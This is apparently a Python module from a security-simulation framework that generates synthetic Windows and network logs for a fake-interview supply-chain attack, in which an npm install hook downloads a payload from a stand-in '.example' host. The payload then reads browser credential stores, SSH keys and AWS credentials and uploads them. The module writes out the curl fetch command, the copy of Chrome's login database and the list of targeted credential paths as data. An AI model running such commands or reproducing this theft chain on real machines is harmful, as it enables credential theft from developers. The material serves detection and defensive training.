"""A task from a made-up job interview: the developer installs the repository's packages, whose hook fetches a stealer; it reads browsers and keys and uploads them."""

from __future__ import annotations

from vidocq.simulation.desktop import Desk, desk
from vidocq.simulation.ids import letters
from vidocq.simulation.line import Line, Scenario, Stage, Step, Story
from vidocq.simulation.remote import Machine, talk
from vidocq.simulation.windows import CMD, PS, SECURITY, WinProcess
from vidocq.simulation.words import CHANNEL, NATURE
from vidocq.simulation.zeek import tls

_NODE = r"C:\Program Files\nodejs\node.exe"
_CODE = r"C:\Users\{}\AppData\Local\Programs\Microsoft VS Code\Code.exe"
_STORES = (
    r"AppData\Local\Google\Chrome\User Data\Default\Login Data", r"AppData\Local\Google\Chrome\User Data\Local State", r"AppData\Local\Google\Chrome\User Data\Default\Network\Cookies", r"AppData\Local\Microsoft\Edge\User Data\Default\Login Data",
    r"AppData\Local\Microsoft\Edge\User Data\Local State", r"AppData\Roaming\Mozilla\Firefox\Profiles\x1.default\key4.db", r"AppData\Roaming\Mozilla\Firefox\Profiles\x1.default\logins.json",
)


def _read(d: Desk, at: float, process: WinProcess, path: str) -> None:
    d.log.tell(at, SECURITY, 4663, {
        "SubjectUserSid": d.who.sid, "SubjectUserName": d.who.name, "SubjectDomainName": d.who.domain, "SubjectLogonId": d.who.session, "ObjectServer": "Security", "ObjectType": "File", "ObjectName": f"{d.home}\\{path}", "HandleId": "0x1a4",
        "AccessList": "%%4416", "AccessMask": "0x1", "ProcessId": hex(process.pid), "ProcessName": process.image, "ResourceAttributes": "S:AI",
    })


def play(stage: Stage) -> Story:
    firm, rng = stage.firm, stage.rng
    at, address = stage.moment(9.5, 16), stage.strangers[0]
    d, domain = desk(firm, stage.employee, stage.day, rng), f"{rng.choice(CHANNEL)}.{rng.choice(NATURE)}{rng.choice(NATURE)}.example"
    repository = f"{d.home}\\Projects\\{rng.choice(NATURE)}-assessment"
    code = d.log.running(_CODE.format(d.who.name), d.who, parent=d.explorer)
    shell = d.log.start(at, code, PS, f'"{PS}"', folder=repository)
    d.log.start(at + 20, shell, r"C:\Program Files\Git\cmd\git.exe", f'"git.exe" clone https://git.{rng.choice(NATURE)}hire.example/task.git {repository}', company="The Git Development Community")
    npm = d.log.start(at + 60, shell, _NODE, f'"{_NODE}" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install', folder=repository, company="Node.js")
    hook = d.log.start(at + 85, npm, CMD, r"C:\Windows\system32\cmd.exe /d /s /c node ./config/setup.js", folder=repository)
    node = d.log.start(at + 85.5, hook, _NODE, "node  ./config/setup.js", folder=repository, company="Node.js")
    m = Machine(d.log, node, d)
    net: list[Line] = talk(firm, rng, at + 88, m, node, domain, address, 900, rng.randint(8_000, 90_000))
    folder = rf"{d.home}\AppData\Local\Temp\{letters(rng, 6)}"
    fetch = d.log.start(at + 90, node, CMD, rf'C:\Windows\system32\cmd.exe /d /s /c "curl -Lo "{folder}\p.zip" "https://{domain}/pdown" && tar -xf {folder}\p.zip -C {folder}"')
    curl = d.log.start(at + 90.5, fetch, r"C:\Windows\System32\curl.exe", rf'curl  -Lo "{folder}\p.zip" "https://{domain}/pdown"')
    d.log.connect(at + 91, curl, address, 443)
    net += tls(rng, at + 91, d.log.host.ip, address, domain, 14, 900, 21_000_000, "curl")
    d.log.write(at + 105, curl, rf"{folder}\p.zip")
    first = (*d.log.step(), *net)
    at += rng.uniform(115, 180)
    python = d.log.start(at, node, rf"{folder}\python.exe", rf'"{folder}\python.exe" "{d.home}\.sysinfo"', company="Python Software Foundation")
    for n, path in enumerate(rng.sample(_STORES, rng.randint(4, 7))):
        _read(d, at + 3 + n, python, path)
    for n, path in enumerate((r".ssh\id_ed25519", r".ssh\config", r".aws\credentials")):
        _read(d, at + 14 + n, python, path)
    d.log.start(at + 20, python, CMD, rf'C:\Windows\system32\cmd.exe /c copy "{d.home}\AppData\Local\Google\Chrome\User Data\Default\Login Data" {folder}\l.db')
    d.log.write(at + 28, python, rf"{folder}\out.zip")
    read = d.log.step()
    at += rng.uniform(40, 120)
    sent: list[Line] = []
    for n in range(rng.randint(2, 5)):
        d.log.connect(at + n * 9, python, address, 443)
        sent += tls(rng, at + n * 9, d.log.host.ip, address, domain, 6, rng.randint(400_000, 6_000_000), 1_500, "python")
    host = m.entity
    steps = (
        Step("1-hook", "a hook of the interview's repository fetches a program", ("T1204.002", "T1059.007", "T1105"), tuple(sorted(first, key=lambda line: line.at)), (host, ("user", d.who.full), ("domain", domain))),
        Step("2-secrets", "browsers' stores and keys are read", ("T1555.003", "T1552.004"), read, (host, ("user", d.who.full))),
        Step("3-sent", "they are uploaded", ("T1041",), (*d.log.step(), *sent), (host, ("ip", address), ("domain", domain))),
    )
    return Story("a job interview's repository steals a developer's secrets", steps, (host, ("user", d.who.full), ("ip", address), ("domain", domain), ("ip", d.log.host.ip)))


SCENARIO = Scenario("fake-interview-stealer", "mixed", play, what="a developer runs the repository of a made-up interview; its hook reads browsers and keys and uploads them")
